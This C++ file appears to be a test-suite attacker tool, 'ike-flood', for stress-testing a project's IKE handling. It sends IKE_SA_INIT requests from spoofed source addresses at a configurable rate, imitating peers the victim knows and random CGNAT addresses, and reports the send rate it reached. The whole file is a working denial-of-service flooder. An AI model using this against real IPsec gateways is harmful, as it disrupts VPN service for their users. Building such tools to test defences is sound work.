// ike-flood TO FIRST LAST RATE SECONDS - sends well-formed IKE_SA_INIT requests to TO from addresses that are not ours,
// every second one from FIRST..LAST (peers that the victim knows), the others from anywhere in 100.64.0.0/10. Says at
// the end how many a second it really sent.
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <thread>

#include "test/support/attacker.h"

namespace causeway::test::attacker {
namespace {

Octets request(Dice& dice, std::uint32_t from, std::uint32_t to) {
  Ike m;
  m.spi_i = dice.next() | 1;
  m.payloads = {{kSa, sa_body()}, {kKe, ke_body(dice)}, {kNonce, random_octets(dice, 32)}};
  return udp_packet({from, 500}, {to, 500}, m.octets());
}

int run(int argc, char** argv) {
  if (argc != 6) {
    std::fprintf(stderr, "usage: ike-flood TO FIRST LAST RATE SECONDS\n");
    return 2;
  }
  const std::uint32_t to = address(argv[1]), first = address(argv[2]), last = address(argv[3]);
  const double rate = std::atof(argv[4]), seconds = std::atof(argv[5]);
  using Clock = std::chrono::steady_clock;
  RawSender sender;
  Dice dice;
  const auto begin = Clock::now();
  std::uint64_t sent = 0, refused = 0;
  double passed = 0;
  while ((passed = std::chrono::duration<double>(Clock::now() - begin).count()) < seconds) {
    const auto due = static_cast<std::uint64_t>(passed * rate);
    std::vector<Octets> batch;
    while (sent + refused + batch.size() < due && batch.size() < 256) {
      const std::uint64_t r = dice.next();
      const bool known = (r & 1) != 0;
      const auto from = known ? first + static_cast<std::uint32_t>(r >> 32) % (last - first + 1)
                              : 0x64400000 + (static_cast<std::uint32_t>(r >> 32) & 0x3fffff);
      batch.push_back(request(dice, from, to));
    }
    if (batch.empty()) {
      std::this_thread::sleep_for(std::chrono::milliseconds(1));
      continue;
    }
    const std::size_t taken = sender.send(batch);
    sent += taken;
    refused += batch.size() - taken;
  }
  std::printf("sent %llu IKE_SA_INITs in %.1f s: %.0f a second (%llu more were refused by the kernel)\n",
              static_cast<unsigned long long>(sent), passed, static_cast<double>(sent) / passed,
              static_cast<unsigned long long>(refused));
  return 0;
}

}  // namespace
}  // namespace causeway::test::attacker

int main(int argc, char** argv) { return causeway::test::attacker::run(argc, argv); }
